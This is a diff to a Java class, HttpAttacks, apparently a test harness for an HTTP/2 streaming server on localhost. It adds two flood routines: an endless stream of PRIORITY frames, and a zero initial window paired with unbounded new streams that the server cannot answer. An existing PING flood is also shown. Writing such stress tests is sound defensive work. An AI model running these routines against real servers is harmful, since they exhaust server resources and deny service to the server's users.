@@ -12,9 +12,11 @@ final class HttpAttacks {
       ascii("GET /live/flood/index.m3u8 HTTP/1.1\r\nHost: localhost\r\n");
   private static final byte[] PREFACE = ascii("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
   private static final int HEADERS = 1;
+  private static final int PRIORITY = 2;
   private static final int RST_STREAM = 3;
   private static final int SETTINGS = 4;
   private static final int PING = 6;
+  private static final int INITIAL_WINDOW_SIZE = 4;
   private static final int ACK = 1;
   private static final int FRAME_HEAD_BYTES = 9;
   private static final int END_STREAM_AND_HEADERS = 5;
@@ -87,6 +89,23 @@ final class HttpAttacks {
     greet(attacker);
     while (true) {
       attacker.send(frame(PING, 0, 0, new byte[8]));
+    }
+  }
+
+  /** RFC 9113 5.3.2: they mean nothing any more, and have no answer. */
+  static void priorities(Attacker attacker) throws IOException {
+    greet(attacker);
+    while (true) {
+      attacker.send(frame(PRIORITY, 0, 1, new byte[5]));
+    }
+  }
+
+  /** Asks and asks, and lets the server send no byte of a body. */
+  static void untakenAnswers(Attacker attacker) throws IOException {
+    attacker.send(PREFACE);
+    attacker.send(frame(SETTINGS, 0, 0, new byte[] {0, INITIAL_WINDOW_SIZE, 0, 0, 0, 0}));
+    for (int stream = 1; ; stream += 2) {
+      attacker.send(frame(HEADERS, END_STREAM_AND_HEADERS, stream, FIELDS));
     }
   }
 
